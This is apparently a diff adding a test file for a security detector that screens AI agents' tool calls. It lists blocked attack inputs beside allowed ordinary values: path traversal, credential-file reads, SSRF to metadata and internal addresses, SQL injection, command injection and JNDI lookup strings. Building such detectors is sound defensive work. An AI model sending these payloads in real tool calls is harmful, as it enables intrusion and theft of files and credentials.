@@ -1,0 +1,164 @@
+import t, { type Test } from 'tap';
+import { inspect, unlimited } from '../../src/detection/pipeline.ts';
+import { ALONE, builtinEngine } from '../support/engine.ts';
+import { toolInvocation } from '../support/events.ts';
+
+/** Payloads arrive under keys of all sorts, in tools of which nothing is known; ordinary values stand beside each. */
+
+type Call = [tool: string, input: Record<string, unknown>];
+
+function check(test: Test, family: RegExp, attacks: readonly Call[], ordinary: readonly Call[]): void {
+  for (const [tool, input] of attacks) {
+    const inspection = inspect(toolInvocation(tool, input), ALONE, builtinEngine, unlimited);
+    const kinds = inspection.explanation.findings.map(({ kind }) => kind);
+    test.equal(inspection.action, 'block', JSON.stringify(input));
+    test.ok(
+      kinds.some((kind) => family.test(kind)),
+      `${JSON.stringify(input)}: ${kinds.join()}`,
+    );
+  }
+  for (const [tool, input] of ordinary) {
+    const inspection = inspect(toolInvocation(tool, input), ALONE, builtinEngine, unlimited);
+    test.equal(inspection.action, 'allow', `${tool} ${JSON.stringify(input)}: ${inspection.reason}`);
+  }
+}
+
+t.test('names of files that lead away, under any key', async (t) => {
+  const attacks: Call[] = [
+    ['render_invoice', { template: 'invoices/../../../../srv/keys' }],
+    ['render_invoice', { template: '..%2f..%2f..%2fopt%2fapp%2fsettings' }],
+    ['render_invoice', { template: '/proc/self/cmdline' }],
+    ['find_manual', { name: '/etc/nginx/nginx.conf' }],
+    ['find_manual', { name: '/home/eve/.aws/credentials' }],
+    ['find_manual', { name: '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/group' }],
+    ['find_manual', { name: `${'A'.repeat(3_000)}/../../../../etc/group` }],
+    ['fetch_receipt', { attachment_path: '/var/log/auth.log' }],
+    ['fetch_receipt', { attachment_path: 'receipts/../../outbox' }],
+    ['web_fetch', { url: 'https://shop.example.com/show?page=/etc/passwd' }],
+    ['web_fetch', { url: 'https://shop.example.com/show?page=..%5c..%5c..%5cdata' }],
+    ['web_fetch', { url: 'https://shop.example.com/static/%2e%2e/%2e%2e/%2e%2e/opt/x' }],
+    ['web_fetch', { url: 'https://shop.example.com/show?lang=%C0%AE%C0%AE%C0%AFlib' }],
+    ['read_file', { path: '/srv/shop/uploads/../../../opt/keys' }],
+    ['read_file', { path: 'etc/passwd' }],
+    ['read_file', { path: '\\\\fileserver\\c$\\users\\eve\\notes.txt' }],
+    ['preview_link', { link: 'file:///etc/group' }],
+  ];
+  const ordinary: Call[] = [
+    ['render_invoice', { template: 'invoices/2024/summary.html' }],
+    ['render_invoice', { template: '../shared/base.html' }],
+    ['find_manual', { name: 'v1.2..v1.3' }],
+    ['find_manual', { name: '50% off...' }],
+    ['find_manual', { name: '/products/42' }],
+    ['search', { query: '/etc/nginx/nginx.conf' }],
+    ['web_fetch', { url: 'https://example.com/docs/a/../b.html' }],
+    ['web_fetch', { url: 'https://example.com/compare?range=main...feature/x&file=src%2Fmain.ts' }],
+    ['web_fetch', { url: 'https://example.com/search?q=%2Fetc%2Fhosts' }],
+    ['read_file', { path: '/work/app/src/../lib/main.ts' }],
+    ['read_file', { path: '../../packages/core/index.ts' }],
+    ['Read', { file_path: '/usr/lib/systemd/system' }],
+    ['go_test', { path: './...' }],
+  ];
+  check(t, /^path\./, attacks, ordinary);
+});
+
+t.test('files that keep the logins of clients', async (t) => {
+  const attacks: Call[] = [
+    ['read_file', { path: '/home/eve/.config/filezilla/sitemanager.xml' }],
+    ['read_file', { path: 'site/sftp-config.json' }],
+    ['read_file', { path: '/home/eve/.msmtprc' }],
+    ['read_file', { path: '/home/eve/.mozilla/firefox/x/cert9.db' }],
+  ];
+  const ordinary: Call[] = [
+    ['read_file', { path: 'site/sftp-config.example.json' }],
+    ['read_file', { path: 'charts/api/templates/secrets.yaml' }],
+  ];
+  check(t, /^credential\./, attacks, ordinary);
+});
+
+t.test('addresses inside, under any key', async (t) => {
+  const attacks: Call[] = [
+    ['preview_link', { link: 'http://shop.example.com@127.0.0.1/x' }],
+    ['preview_link', { link: 'http:127.0.0.1' }],
+    ['import_logo', { image_url: 'http://10.0.0.5./x' }],
+    ['import_logo', { image_url: 'https://localhost/x' }],
+    ['import_logo', { image_url: 'http://127.0.0.1:8/' }],
+    ['set_avatar', { avatar: 'http://169.254.169.254/latest/user-data' }],
+    ['set_avatar', { avatar: 'gopher://127.0.0.1:6379/_x' }],
+    ['trace_route', { host: '169.254.169.254' }],
+    ['web_fetch', { url: 'http://[::①]/' }],
+  ];
+  const ordinary: Call[] = [
+    ['preview_link', { link: 'http://localhost:3000/' }],
+    ['web_fetch', { url: 'http://admin:admin@localhost:3000/api/health' }],
+    ['web_fetch', { url: 'http://localhost:631/printers' }],
+    ['test_connection', { database_url: 'postgres://app:secret@localhost:5432/app' }],
+    ['test_connection', { server_url: 'ldap://directory.internal' }],
+    ['set_config', { base_url: 'http://localhost/' }],
+    ['set_avatar', { avatar: 'https://cdn.example.com/a.png' }],
+    ['trace_route', { host: '192.168.1.20' }],
+    ['add_label', { target: 'metadata' }],
+  ];
+  check(t, /^ssrf\./, attacks, ordinary);
+});
+
+t.test('values that break out of a statement', async (t) => {
+  const attacks: Call[] = [
+    ['get_user', { email: "eve' AND token IS NULL; --" }],
+    ['get_user', { email: "eve' or nickname like char(42);" }],
+    ['get_user', { email: "eve'|phone--" }],
+    ['get_user', { email: "eve'is not-id--" }],
+    ['get_user', { id: 'or b=b' }],
+    ['get_user', { id: '7) or (b=b' }],
+    ['get_user', { id: "7');waitfor delay'0:0:9'--" }],
+    ['get_user', { id: '7;INSERT/*x*/INTO/*x*/tags(id) VALUES(1)' }],
+    ['list_orders', { status: `or '{"k":1}'::jsonb @> '{"k":1}'` }],
+    ['list_orders', { status: `or '{"k":1}' ? 'k'` }],
+    ['list_orders', { status: 'declare @t varchar(99) set @t = 0x41 exec(@t)' }],
+    ['list_orders', { status: '||(elt(1,bin(2)))' }],
+  ];
+  const ordinary: Call[] = [
+    ['get_user', { email: "o'neil@example.com" }],
+    ['login', { username: 'eve', password: '!@#$%' }],
+    ['search', { query: "the boys' and girls in class" }],
+    ['search', { query: 'We met at noon; copy should be ready by one' }],
+    ['search', { query: 'a note; insert into the second box' }],
+    ['search', { query: 'rename "old" -> "new"' }],
+    ['search', { query: "is this your parents' or yours?" }],
+    ['list_orders', { status: 'open or on hold' }],
+  ];
+  check(t, /^sqli\./, attacks, ordinary);
+});
+
+t.test('values that break out of a command', async (t) => {
+  const attacks: Call[] = [
+    ['ping_host', { host: '8.8.4.4;uptool --all' }],
+    ['ping_host', { host: '8.8.4.4 | fold /srv/x' }],
+    ['ping_host', { host: "8.8.4.4;h''ead /srv/x" }],
+    ['ping_host', { host: '8.8.4.4;h$@ead /srv/x' }],
+    ['ping_host', { host: '8.8.4.4;$x y' }],
+    ['ping_host', { host: '$(hostid$())' }],
+    ['ping_host', { host: 'x`hostid`' }],
+    ['ping_host', { host: '8.8.4.4& FOR /F "delims=" %a IN (list) DO @echo %a' }],
+    ['ping_host', { host: '8.8.4.4;for /f \\"delims=\\" %a in (list) do @echo %a' }],
+    ['ping_host', { host: 'a=/srv&&b=head&&$b $a' }],
+    ['checkout', { branch: 'main+|+dir+c:\\+' }],
+    ['checkout', { branch: `main\${PATH#{}/}` }],
+    ['greet', { user: 'eve;cd /;cd srv' }],
+    ['greet', { user: `\${jndi:ldap://example.com/a}` }],
+    ['greet', { user: `\${lower:j}\${lower:n}di:x` }],
+  ];
+  const ordinary: Call[] = [
+    ['convert', { filename: 'R&D | plan - final.pdf' }],
+    ['convert', { filename: "Smith & O'Neil's.docx" }],
+    ['convert', { filename: '$(pwd)/plan.md' }],
+    ['checkout', { branch: 'feature/a-b_c' }],
+    ['get_item', { id: 'To alias `ls -l` to `ll`' }],
+    ['get_item', { id: 'Map a key to a call of `uuidgen`, then trim it' }],
+    ['build', { target: '$(TARGET)' }],
+    ['build', { tag: `\${REGISTRY:-local}` }],
+    ['search_logs', { query: '{app="shop"} | json | line_format "{{.msg}}"' }],
+    ['greet', { user: 'red; green' }],
+    ['greet', { user: 'red;$5 each' }],
+  ];
+  check(t, /^command_injection\./, attacks, ordinary);
+});
